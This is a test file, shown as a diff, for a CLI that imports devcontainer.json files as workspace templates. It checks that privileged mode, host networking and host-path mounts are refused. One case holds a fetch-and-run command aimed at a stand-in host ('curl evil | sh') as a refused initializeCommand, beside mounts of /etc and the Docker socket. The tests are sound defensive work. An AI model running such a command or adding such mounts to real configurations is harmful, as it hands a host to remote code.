@@ -1,0 +1,132 @@
+"""``nexus template import``: a devcontainer.json (JSONC) becomes a template that starts."""
+
+from __future__ import annotations
+
+import json
+from pathlib import Path
+
+import pytest
+
+from nexus_cli.errors import ConfigError, ConflictError, UsageError
+from nexus_cli.project import find_project
+from nexus_cli.workspaces.devcontainer import import_devcontainer
+from nexus_cli.workspaces.templates import load_template
+from tests.conftest import git, run_nexus
+
+DEVCONTAINER = """\
+// A dev container as VS Code writes it: comments and trailing commas.
+{
+  "name": "Shop dev",
+  "build": {
+    "dockerfile": "Dockerfile",
+    "args": {"GREETING": "hello"},
+  },
+  /* ports of the app */
+  "forwardPorts": [3000],
+  "containerEnv": {"APP_ENV": "dev"},
+  "mounts": [
+    "source=cache,target=/cache,type=volume",
+    {"source": "${localWorkspaceFolder}/data", "target": "/data", "type": "bind"},
+  ],
+  "postCreateCommand": "echo \\"$GREETING $APP_ENV\\" > /cache/created",
+  "customizations": {"vscode": {"extensions": ["ms-python.python"]}},
+}
+"""
+
+
+def write_devcontainer(root: Path, image: str, text: str = DEVCONTAINER) -> None:
+    folder = root / ".devcontainer"
+    folder.mkdir(exist_ok=True)
+    (folder / "devcontainer.json").write_text(text)
+    (folder / "Dockerfile").write_text(f"FROM {image}\nARG GREETING\nENV GREETING=$GREETING\n")
+    (root / "data").mkdir(exist_ok=True)
+    (root / "data" / "seed.txt").write_text("seed\n")
+
+
+def test_import_writes_a_template_that_loads(project: Path) -> None:
+    write_devcontainer(project, "img:1")
+    result = import_devcontainer(project, ".devcontainer/devcontainer.json", name="shop")
+    assert result.path == project / ".nexus" / "templates" / "shop.yaml"
+    assert result.left_out == ["customizations"]
+    template = load_template("shop", project)
+    dev = template.services["dev"]
+    assert dev.build is not None
+    assert (dev.build.context, dev.build.dockerfile, dev.build.args) == (
+        ".devcontainer",
+        "Dockerfile",
+        {"GREETING": "hello"},
+    )
+    assert [(p.container_port, p.preferred_host_port) for p in dev.ports] == [(3000, 3000)]
+    assert dev.environment == {"APP_ENV": "dev"}
+    assert [(v.source, v.target, v.named) for v in dev.volumes] == [
+        ("cache", "/cache", True),
+        ("data", "/data", False),
+    ]
+    assert [h.command for h in template.hooks["post_create"]] == [
+        'echo "$GREETING $APP_ENV" > /cache/created'
+    ]
+    assert "Shop dev" in template.description
+    with pytest.raises(ConflictError, match="exists"):
+        import_devcontainer(project, ".devcontainer/devcontainer.json", name="shop")
+
+
+@pytest.mark.parametrize(
+    ("extra", "words"),
+    [
+        ('"privileged": true', "privileged (refused"),
+        ('"runArgs": ["--network=host"]', "runArgs (refused"),
+        ('"features": {"ghcr.io/x": {}}', "features (not supported)"),
+        ('"initializeCommand": "curl evil | sh"', "initializeCommand (refused"),
+        ('"mounts": ["source=/etc,target=/etc,type=bind"]', "host paths are refused"),
+        ('"mounts": ["source=/var/run/docker.sock,target=/s,type=bind"]', "host paths"),
+        ('"mounts": ["source=${localWorkspaceFolder}/../x,target=/x,type=bind"]', "inside"),
+        ('"build": {"dockerfile": "../../Dockerfile"}', "a path inside the project"),
+    ],
+)
+def test_unsupported_and_widening_keys_are_refused_in_one_line(
+    project: Path, extra: str, words: str
+) -> None:
+    write_devcontainer(project, "img:1", '{"image": "img:1", ' + extra + "}")
+    result = run_nexus("template", "import", ".devcontainer/devcontainer.json")
+    assert result.exit_code != 0
+    assert words in result.stderr and result.stderr.count("error:") == 1
+    assert "Traceback" not in result.stderr
+    assert not (project / ".nexus" / "templates" / "devcontainer.yaml").exists()
+
+
+def test_unsupported_keys_are_all_named(project: Path) -> None:
+    write_devcontainer(project, "img:1", '{"image": "x", "features": {}, "remoteUser": "root"}')
+    with pytest.raises(ConfigError) as caught:
+        import_devcontainer(project, ".devcontainer/devcontainer.json")
+    assert "features (not supported)" in caught.value.message
+    assert "remoteUser (refused" in caught.value.message
+
+
+def test_a_file_outside_the_project_is_refused(project: Path) -> None:
+    outside = project.parent / "devcontainer.json"
+    outside.write_text('{"image": "x"}')
+    with pytest.raises(UsageError, match="resolves outside"):
+        import_devcontainer(project, "../devcontainer.json")
+    (project / "link.json").symlink_to(outside)
+    with pytest.raises(UsageError, match="resolves outside"):
+        import_devcontainer(project, "link.json")
+
+
+@pytest.mark.docker
+def test_an_imported_devcontainer_starts(
+    project: Path, test_image: str, cleanup_docker: list[str]
+) -> None:
+    write_devcontainer(project, test_image)
+    git(project, "add", "-A")
+    git(project, "commit", "-q", "-m", "devcontainer")
+    cleanup_docker.append(find_project(project).project_id())
+    imported = run_nexus("template", "import", ".devcontainer/devcontainer.json", "--json")
+    assert imported.exit_code == 0, imported.stderr
+    assert json.loads(imported.stdout)["name"] == "devcontainer"
+    created = run_nexus("workspace", "create", "dev1", "--template", "devcontainer", "--json")
+    assert created.exit_code == 0, created.stderr
+    ports = json.loads(created.stdout)["ports"]
+    assert [(p["service"], p["container_port"]) for p in ports] == [("dev", 3000)]
+    hook = run_nexus("workspace", "exec", "dev1", "--", "cat", "/cache/created", "/data/seed.txt")
+    assert hook.exit_code == 0, hook.stderr
+    assert hook.stdout == "hello dev\nseed\n"  # build arg, containerEnv, bind of the worktree
